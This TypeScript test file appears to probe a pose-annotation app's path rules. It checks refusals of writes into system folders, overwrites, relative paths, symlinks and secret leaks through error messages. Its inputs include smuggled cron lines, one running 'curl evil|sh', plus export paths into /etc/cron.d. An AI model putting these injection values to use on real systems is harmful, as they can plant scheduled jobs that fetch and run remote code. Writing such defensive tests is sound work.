// Probe suite (issue 14), path authority: a client holding the token tries to create projects
// in system places, overwrite files, write outside the project, and read secrets through
// error messages. Each probe must be refused with a clear kind and leave the disk unchanged.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join, resolve } from 'node:path';
import { createStudio } from '../../src-main/core/studio';
import { createProject } from '../../src-main/core/catalog/project-info';
import { insertInstance } from '../../src-main/core/catalog/instances';
import { exportDataset } from '../../src-main/core/datasets/export-dataset';
import { parseReferenceCsv } from '../../src-main/core/formats/reference-csv';
import { locateModelFolder } from '../../src-main/core/predictions/model-location';
import { referenceList } from '../../src-main/core/predictions/prediction-exports';
import { LSP14 } from '../../src-shared/domain/skeleton';
import type { Envelope } from '../../src-shared/api/define';
import type { Task } from '../../src-shared/api/tasks.contract';
import { makeTempDir } from '../support/paths';

const temp = makeTempDir();
// The widest --allow, so that what is probed here are the rules every door shares (hostile-allow probes the roots).
const studio = createStudio({ home: join(temp.dir, 'home'), door: 'serve', allow: ['/'] });
after(async () => {
  await studio.close();
  temp.cleanup();
});

async function attempt(name: string, input: unknown): Promise<Envelope<unknown>> {
  return studio.dispatch(name, input);
}

function refused(envelope: Envelope<unknown>, kind: string, message?: RegExp): string {
  assert.equal(envelope.ok, false, `expected a refusal, got ${JSON.stringify(envelope)}`);
  if (envelope.ok) return '';
  assert.equal(envelope.error.kind, kind, envelope.error.message);
  if (message) assert.match(envelope.error.message, message);
  assert.ok(!envelope.error.message.includes('\n'), 'one line');
  return envelope.error.message;
}

async function finished(taskId: string): Promise<Task> {
  for (;;) {
    const reply = await attempt('tasks.get', { id: taskId });
    assert.ok(reply.ok);
    const task = reply.value as Task;
    if (task.state !== 'running') return task;
    await new Promise((r) => setTimeout(r, 20));
  }
}

const lsp = { preset: 'lsp14' };

test('projects.create refuses the root, system trees, relative paths, the home folder itself and control characters', async () => {
  refused(
    await attempt('projects.create', { folder: '/', name: 'root', skeleton: lsp }),
    'forbidden',
    /filesystem root/,
  );
  for (const folder of [
    '/etc',
    '/etc/deeppose-probe',
    '/usr/share/deeppose-probe',
    '/proc/deeppose-probe',
    '/sys/x',
    '/dev/x',
    '/boot/x',
    '/var/lib/deeppose-probe',
    '/bin/x',
  ]) {
    refused(await attempt('projects.create', { folder, name: 'sys', skeleton: lsp }), 'forbidden', /system folder/);
    assert.equal(existsSync(join(folder, 'catalog.sqlite')), false, folder);
  }
  refused(
    await attempt('projects.create', { folder: 'relative-probe/x', name: 'rel', skeleton: lsp }),
    'invalid-argument',
    /relative path/,
  );
  assert.equal(existsSync(resolve('relative-probe')), false, 'nothing made in the working directory');
  refused(
    await attempt('projects.create', { folder: homedir(), name: 'home', skeleton: lsp }),
    'forbidden',
    /home folder itself/,
  );
  refused(
    await attempt('projects.create', { folder: join(temp.dir, 'a\nb'), name: 'nl', skeleton: lsp }),
    'invalid-argument',
    /control characters/,
  );
  refused(
    await attempt('projects.create', { folder: join(temp.dir, 'ok'), name: 'evil\n* * * * * root sh', skeleton: lsp }),
    'invalid-argument',
    /control characters/,
  );
  assert.equal(existsSync(join(temp.dir, 'ok', 'catalog.sqlite')), false);
  refused(
    await attempt('projects.createSample', { folder: '/etc/deeppose-sample', count: 10 }),
    'forbidden',
    /system folder/,
  );
  // A symlink into a system tree counts as that tree.
  const { symlinkSync } = await import('node:fs');
  symlinkSync('/etc', join(temp.dir, 'etc-link'));
  refused(
    await attempt('projects.create', { folder: join(temp.dir, 'etc-link', 'p'), name: 'link', skeleton: lsp }),
    'forbidden',
    /system folder \/etc/,
  );
});

test('datasets.export and models.exportOnnx never overwrite unasked and write only inside the project', async () => {
  const project = join(temp.dir, 'exporter');
  assert.ok((await attempt('projects.create', { folder: project, name: 'Exporter', skeleton: lsp })).ok);
  const existing = join(project, 'labels.json');
  writeFileSync(existing, 'precious');

  refused(
    await attempt('datasets.export', { project, format: 'coco', path: existing }),
    'conflict',
    /already exists: tick 'replace an existing file'/,
  );
  assert.equal(readFileSync(existing, 'utf8'), 'precious');
  const outside = join(temp.dir, 'outside.csv');
  refused(
    await attempt('datasets.export', { project, format: 'csv', path: outside }),
    'forbidden',
    /outside the project's folders/,
  );
  assert.equal(existsSync(outside), false);
  refused(
    await attempt('datasets.export', { project, format: 'csv', path: '/etc/cron.d/deeppose', overwrite: true }),
    'forbidden',
    /system folder \/etc/,
  );
  refused(
    await attempt('datasets.export', { project, format: 'csv', path: 'relative.csv' }),
    'invalid-argument',
    /relative path/,
  );
  refused(
    await attempt('datasets.export', { project, format: 'csv', path: project, overwrite: true }),
    'conflict',
    /not a regular file/,
  );

  const replaced = await attempt('datasets.export', { project, format: 'coco', path: existing, overwrite: true });
  assert.ok(replaced.ok);
  assert.equal((await finished((replaced.value as { taskId: string }).taskId)).state, 'succeeded');
  assert.ok(Array.isArray(JSON.parse(readFileSync(existing, 'utf8')).images), 'replaced only when asked');

  const onnx = join(project, 'model.onnx');
  writeFileSync(onnx, 'precious');
  const model = { modelFolder: join(project, 'no-model') };
  refused(await attempt('models.exportOnnx', { project, model, path: onnx }), 'conflict', /already exists/);
  assert.equal(readFileSync(onnx, 'utf8'), 'precious');
  refused(await attempt('models.exportOnnx', { project, model, path: join(temp.dir, 'anywhere.onnx') }), 'forbidden');
  assert.equal(existsSync(join(temp.dir, 'anywhere.onnx')), false);
});

test('predictions.export refuses system trees, relative paths and folders before looking for the set', async () => {
  const project = join(temp.dir, 'predictor');
  assert.ok((await attempt('projects.create', { folder: project, name: 'Predictor', skeleton: lsp })).ok);
  refused(
    await attempt('predictions.export', { project, setId: 1, format: 'csv', path: '/etc/cron.d/deeppose' }),
    'forbidden',
    /system folder \/etc/,
  );
  refused(
    await attempt('predictions.export', { project, setId: 1, format: 'csv', path: 'relative.csv' }),
    'invalid-argument',
    /relative path/,
  );
  refused(
    await attempt('predictions.export', { project, setId: 1, format: 'csv', path: project }),
    'conflict',
    /not a regular file/,
  );
  assert.equal(existsSync(resolve('relative.csv')), false);
});

test('error messages never quote the file they read nor list a folder', async () => {
  const project = join(temp.dir, 'reader');
  assert.ok((await attempt('projects.create', { folder: project, name: 'Reader', skeleton: lsp })).ok);
  const secret = join(temp.dir, 'passwd.json');
  writeFileSync(secret, 'root:x:0:0:root:/root:/bin/bash\nsecret-token-123\n');
  const started = await attempt('datasets.import', { project, format: 'coco', path: secret });
  assert.ok(started.ok);
  const task = await finished((started.value as { taskId: string }).taskId);
  assert.equal(task.state, 'failed');
  assert.match(task.error ?? '', /passwd\.json: not valid JSON/);
  assert.ok(!/root:x|secret-token/.test(task.error ?? ''), task.error ?? '');

  const folder = join(temp.dir, 'private');
  mkdirSync(join(folder, 'diary-2024'), { recursive: true });
  writeFileSync(join(folder, 'salary.xlsx'), 'x');
  assert.throws(
    () => locateModelFolder(folder),
    (error: Error) => /no TensorFlow\.js model here/.test(error.message) && !/diary|salary/.test(error.message),
  );
});

test('CSV lists quote paths with commas, quotes and newlines, and read them back as one row', async () => {
  const dir = join(temp.dir, 'csv-project');
  const catalog = createProject(dir, 'CSV', LSP14);
  const evil = join(dir, 'a,b "c"\n* * * * * root curl evil|sh\n.png');
  const imageId = Number(
    catalog.db
      .prepare('INSERT INTO images (path, sha256, width, height, added_at) VALUES (?, ?, ?, ?, ?)')
      .run(evil, 'f'.repeat(64), 100, 100, 0).lastInsertRowid,
  );
  insertInstance(
    catalog,
    imageId,
    null,
    LSP14.joints.map((_, j) => ({ x: j, y: j + 1, visibility: 2 as const })),
  );
  const list = join(dir, 'list.csv');
  await exportDataset(catalog, { format: 'csv', path: list });
  assert.ok(readFileSync(list, 'utf8').startsWith('"'), 'the path is quoted');
  const parsed = await parseReferenceCsv(list, 14);
  assert.deepEqual(parsed.problems, []);
  assert.equal(parsed.records.length, 1);
  assert.equal(parsed.records[0].imagePath, evil);
  assert.deepEqual(parsed.records[0].instances[0].joints[3], [3, 4, 1]);
  catalog.close();

  const predictions = referenceList([{ imagePath: '/x/a,b\n.png', imageId: null, joints: [[1, 2]] }], '/y');
  assert.equal(predictions, '"/x/a,b\n.png",1,2,1\n');
});
